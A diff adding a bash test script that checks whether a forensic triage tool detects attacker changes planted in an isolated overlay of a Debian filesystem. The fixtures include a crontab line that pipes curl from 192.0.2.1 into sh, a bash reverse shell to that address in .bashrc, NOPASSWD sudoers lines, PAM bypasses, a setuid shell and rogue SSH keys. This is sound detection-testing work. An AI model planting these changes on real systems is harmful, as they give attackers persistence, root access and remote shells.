@@ -1,0 +1,162 @@
+#!/bin/bash
+# SPDX-License-Identifier: Apache-2.0
+#
+# planted.sh DIRECTORY-OF-PROGRAMS
+#
+# A clean Debian has no finding above "info", and nothing of it is touched.
+# Then each change below is made alone, in an overlay over that tree that is then
+# read-only, and has to be found: at its place, with its technique.  The score is
+# found/planted, and what else was found.  Mounts are in a namespace of its own.
+if [ "${1:-}" != --inside ]; then
+	exec unshare --mount "$0" --inside "$@"
+fi
+shift
+set -euo pipefail
+. "$(dirname "${BASH_SOURCE[0]}")/lib.sh"
+
+tree=$("$here/tree.sh")
+root=$tmp/root
+mkdir "$root" "$tmp/layer"
+mount -t tmpfs disk "$tmp/layer"
+trap 'umount -q "$root" "$tmp/layer" || :; rm -rf --one-file-system "$tmp"' EXIT
+
+# A fresh disk: the tree as it was made.
+attach() {
+	! mountpoint -q "$root" || umount "$root"
+	rm -rf "$tmp/layer/up" "$tmp/layer/work"
+	mkdir "$tmp/layer/up" "$tmp/layer/work"
+	mount -t overlay disk "$root" \
+		-o "lowerdir=$tree,upperdir=$tmp/layer/up,workdir=$tmp/layer/work"
+}
+
+# What a triage might touch: times too.
+stamps() {
+	find "$root" -printf '%p %i %m %U %G %s %A@ %T@ %C@\n' | sort
+}
+
+# Findings above info: technique, place, rule.
+findings() {
+	show finding | python3 -c '
+import json, sys
+for line in sys.stdin:
+    f = json.loads(line)["finding"]
+    if f["severity"] != "SEVERITY_INFO":
+        print(f["technique"], f["evidence"][0]["name"], f["rule"])
+' | sort -u
+}
+
+attach
+mount -o remount,ro "$root"
+stamps >"$tmp/before"
+triage 0 "$root"
+stamps >"$tmp/after"
+cmp -s "$tmp/before" "$tmp/after" || fail "it touched what it looked at"
+is "findings in a clean tree" "$(findings)" ""
+is "files" "$(show disk-file | wc -l)" "$(find "$root" -printf x | wc -c)"
+is "packages" "$(show package | wc -l)" \
+	"$(grep -c '^Package:' "$root/var/lib/dpkg/status")"
+is "host" "$(basename "$(dirname "$evidence")")" "$(cat "$root/etc/hostname")"
+
+planted=0 found=0 others=0
+# plant TECHNIQUE PATH SCRIPT: run SCRIPT in the root; the finding is of PATH.
+plant() {
+	local got n
+
+	attach
+	(cd "$root" && bash -euc "$3") || fail "cannot plant $2"
+	mount -o remount,ro "$root"
+	triage 0 "$root"
+	got=$(findings)
+	planted=$((planted + 1))
+	if grep -qF -- "$1 $2 " <<<"$got"; then
+		found=$((found + 1))
+	else
+		printf 'NOT FOUND: %s %s; but:\n%s\n' "$1" "$2" "$got"
+	fi
+	n=$(grep -vF -- " $2 " <<<"$got" | grep -c . || :)
+	[ "$n" = 0 ] || printf 'besides %s:\n%s\n' "$2" "$got"
+	others=$((others + n))
+}
+
+lib=usr/lib/x86_64-linux-gnu
+
+# What packages say.
+plant T1556 "/$lib/security/pam_unix.so" "printf x >>$lib/security/pam_unix.so"
+plant T1556 /usr/sbin/sshd "printf x >>usr/sbin/sshd"
+plant T1556 "/$lib/liblzma.so.5.4.1" "printf x >>$lib/liblzma.so.5.4.1"
+plant T1554 /usr/bin/ls "printf x >>usr/bin/ls"
+plant T1554 /usr/bin/find "ln -sf /tmp/find usr/bin/find"
+plant T1554 /usr/sbin/service "echo id >>usr/sbin/service"
+plant T1548.001 /usr/bin/chsh "printf x >>usr/bin/chsh"
+plant T1565.001 /usr/share/zoneinfo/Europe/Paris \
+	"printf x >>usr/share/zoneinfo/Europe/Paris || printf x >usr/share/zoneinfo/Europe/Paris"
+plant T1070.004 /usr/bin/last "rm usr/bin/last"
+plant T1556.003 "/$lib/security/pam_evil.so" "cp usr/bin/true $lib/security/pam_evil.so"
+plant T1548.001 /opt/rootsh "mkdir -p opt; cp bin/dash opt/rootsh; chmod 4755 opt/rootsh"
+plant T1036.005 /usr/bin/kworkerd "cp usr/bin/true usr/bin/kworkerd"
+plant T1036.005 "/$lib/libnot.so.1" "cp usr/bin/true $lib/libnot.so.1"
+plant T1036.005 /usr/local/bin/backup "cp usr/bin/true usr/local/bin/backup"
+plant T1547.006 /usr/lib/modules/6.1.0/extra/evil.ko \
+	"mkdir -p lib/modules/6.1.0/extra; echo x >lib/modules/6.1.0/extra/evil.ko"
+plant T1059 /tmp/.x/run "mkdir tmp/.x; cp usr/bin/true tmp/.x/run"
+plant T1059 /dev/shm/m "mkdir dev/shm; cp usr/bin/true dev/shm/m"
+
+# What runs by itself.
+plant T1543.002 /etc/systemd/system/a.service \
+	"printf '[Service]\nExecStart=/usr/bin/env\n' >etc/systemd/system/a.service"
+plant T1543.002 /etc/systemd/system/ssh.service.d/a.conf \
+	"mkdir etc/systemd/system/ssh.service.d; printf '[Service]\nExecStartPre=/tmp/x\n' >etc/systemd/system/ssh.service.d/a.conf"
+plant T1053.006 /etc/systemd/system/a.timer \
+	"printf '[Timer]\nOnBootSec=1\n' >etc/systemd/system/a.timer"
+plant T1543.002 /root/.config/systemd/user/u.service \
+	"mkdir -p root/.config/systemd/user; printf '[Service]\nExecStart=/bin/x\n' >root/.config/systemd/user/u.service"
+plant T1543.002 /usr/lib/systemd/system-generators/g \
+	"echo id >usr/lib/systemd/system-generators/g"
+plant T1543.002 /usr/lib/systemd/system/cron.service \
+	"sed -i 's,^ExecStart=,ExecStart=/tmp/x ,' usr/lib/systemd/system/cron.service"
+plant T1053.003 /etc/cron.d/a "echo '* * * * * root /usr/bin/env' >etc/cron.d/a"
+plant T1053.003 /etc/crontab "echo '* * * * * root curl http://192.0.2.1/x|sh' >>etc/crontab"
+plant T1053.003 /var/spool/cron/crontabs/root \
+	"echo '* * * * * /dev/shm/x' >var/spool/cron/crontabs/root"
+plant T1053.003 /etc/cron.daily/a "printf '#!/bin/sh\nid\n' >etc/cron.daily/a"
+plant T1574.006 /etc/ld.so.preload "echo /$lib/libm.so.6 >etc/ld.so.preload"
+plant T1574.006 /etc/ld.so.conf.d/0.conf "echo /opt/lib >etc/ld.so.conf.d/0.conf"
+plant T1556.003 /etc/pam.d/sshd \
+	"sed -i '1i auth optional pam_exec.so quiet /opt/x' etc/pam.d/sshd"
+plant T1556.003 /etc/pam.d/common-auth \
+	"sed -i '1i auth sufficient pam_permit.so' etc/pam.d/common-auth"
+plant T1098.004 /root/.ssh/authorized_keys \
+	"mkdir -p root/.ssh; echo 'ssh-ed25519 AAAA x' >root/.ssh/authorized_keys"
+plant T1098.004 /home/u/.ssh/authorized_keys \
+	"mkdir -p home/u/.ssh; echo 'command=\"/x\" ssh-rsa A x' >home/u/.ssh/authorized_keys"
+plant T1098.004 /etc/ssh/sshrc "echo id >etc/ssh/sshrc"
+plant T1556 /etc/ssh/sshd_config "echo 'PermitRootLogin yes' >>etc/ssh/sshd_config"
+plant T1556 /etc/ssh/sshd_config.d/a.conf \
+	"echo 'AuthorizedKeysFile /etc/ssh/k' >etc/ssh/sshd_config.d/a.conf"
+plant T1548.003 /etc/sudoers.d/a "echo 'u ALL=(ALL) NOPASSWD: ALL' >etc/sudoers.d/a"
+plant T1548.003 /etc/sudoers "echo 'u ALL=(ALL) NOPASSWD: ALL' >>etc/sudoers"
+plant T1546.004 /etc/profile.d/a.sh "echo id >etc/profile.d/a.sh"
+plant T1546.004 /root/.bashrc "echo 'bash -i >& /dev/tcp/192.0.2.1/1' >>root/.bashrc"
+plant T1546.004 /etc/environment "echo LD_PRELOAD=/x.so >>etc/environment"
+plant T1546.017 /etc/udev/rules.d/a.rules \
+	"echo 'ACTION==\"add\", RUN+=\"/x\"' >etc/udev/rules.d/a.rules"
+plant T1547.006 /etc/modules-load.d/a.conf "echo evil >etc/modules-load.d/a.conf"
+plant T1547.006 /etc/modprobe.d/a.conf "mkdir -p etc/modprobe.d; echo 'install loop /x' >etc/modprobe.d/a.conf"
+plant T1037.004 /etc/rc.local "printf '#!/bin/sh\nid\n' >etc/rc.local"
+plant T1037.004 /etc/init.d/a "printf '#!/bin/sh\nid\n' >etc/init.d/a"
+plant T1546.016 /etc/apt/apt.conf.d/a \
+	"echo 'APT::Update::Post-Invoke {\"id\";};' >etc/apt/apt.conf.d/a"
+plant T1037 /etc/update-motd.d/99-a "mkdir -p etc/update-motd.d; echo id >etc/update-motd.d/99-a"
+plant T1546.018 /usr/lib/python3/dist-packages/a.pth \
+	"mkdir -p usr/lib/python3/dist-packages; echo 'import os' >usr/lib/python3/dist-packages/a.pth"
+plant T1546.018 /usr/local/lib/python3.11/dist-packages/usercustomize.py \
+	"mkdir -p usr/local/lib/python3.11/dist-packages; echo 'print(1)' >usr/local/lib/python3.11/dist-packages/usercustomize.py"
+plant T1547.013 /etc/xdg/autostart/a.desktop \
+	"mkdir -p etc/xdg/autostart; echo Exec=/x >etc/xdg/autostart/a.desktop"
+plant T1543.005 /etc/kubernetes/manifests/a.yaml \
+	"mkdir -p etc/kubernetes/manifests; echo 'kind: Pod' >etc/kubernetes/manifests/a.yaml"
+
+printf 'planted changes: %d of %d found, %d findings besides\n' \
+	"$found" "$planted" "$others"
+is "planted changes found" "$found" "$planted"
+done_testing
